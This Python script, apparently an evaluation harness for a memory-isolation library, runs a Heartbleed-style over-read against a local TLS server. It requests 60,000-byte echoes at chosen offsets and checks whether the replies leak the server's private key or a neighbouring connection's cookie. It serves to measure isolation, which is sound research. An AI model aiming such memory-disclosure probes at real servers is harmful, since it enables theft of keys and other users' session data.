# SPDX-License-Identifier: MIT
"""Runs in the guest: asks a server for what is in its memory, over TLS.

    attack.py PORT KEY.pem WAY...

A neighbour has sent half a request with a cookie, and waits.  Meanwhile the server is asked for
60,000 bytes at a time, from where a request lies, above and below (``around``), or at the
addresses of tags of libwedge's (``tags``).  Printed as JSON: how many of the questions were
answered, and whether the answers hold the key or the cookie.
"""

from __future__ import annotations

import json
import re
import socket
import ssl
import subprocess
import sys
from pathlib import Path

COOKIE = b"the cookie of somebody else 7f3a91"
BYTES = 60000
REACH = 16
TAGS = 0x200040000000
UNIT = 2 << 20


def connect(port: int) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    plain = socket.create_connection(("127.0.0.1", port), timeout=60)
    try:
        return context.wrap_socket(plain)
    except OSError:
        plain.close()
        raise


def ask(port: int, header: str) -> bytes:
    """The whole answer; empty when there is none."""
    found = b""
    try:
        with connect(port) as tls:
            tls.sendall(f"GET / HTTP/1.0\r\n{header}\r\n\r\n".encode())
            while part := tls.recv(65536):
                found += part
    except OSError:
        pass
    return found


def needles(path: str) -> list[bytes]:
    """The private number, in both orders of bytes, and the lines of the file."""
    text = subprocess.run(
        ["openssl", "pkey", "-in", path, "-noout", "-text"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    words = re.search(r"priv:\s*((?:[0-9a-f]{2}[:\s]*)+)", text)
    assert words, text
    number = bytes.fromhex(re.sub(r"[^0-9a-f]", "", words[1]))[-32:]
    lines = [line for line in Path(path).read_bytes().splitlines() if b"-" not in line]
    return [number, number[::-1], *lines]


def questions(way: str) -> list[str]:
    if way == "tags":
        return [f"Echo: {BYTES} @{TAGS + n * UNIT:#x}" for n in range(4)]
    if way == "around":
        # The nearest first: who falls off the end of its memory may take the server along.
        turns = sorted(range(-REACH, REACH), key=lambda n: abs(n + 0.5))
        return [f"Echo: {BYTES} {n * BYTES}" for n in turns]
    return ["Host: localhost"]


def main() -> None:
    port, key = int(sys.argv[1]), needles(sys.argv[2])
    neighbour = connect(port)
    neighbour.sendall(b"GET / HTTP/1.0\r\nCookie: " + COOKIE + b"\r\n")
    for way in sys.argv[3:]:
        answers = [ask(port, question) for question in questions(way)]
        loot = b"\n".join(answers)
        report = {
            "way": way,
            "asked": len(answers),
            "answered": sum(len(answer) >= BYTES for answer in answers),
            "page": any(b"It works." in answer for answer in answers),
            "own": b"\r\nEcho: " in loot,
            "key": any(needle in loot for needle in key),
            "neighbour": COOKIE in loot,
        }
        sys.stdout.write(json.dumps(report) + "\n")
    neighbour.close()


main()
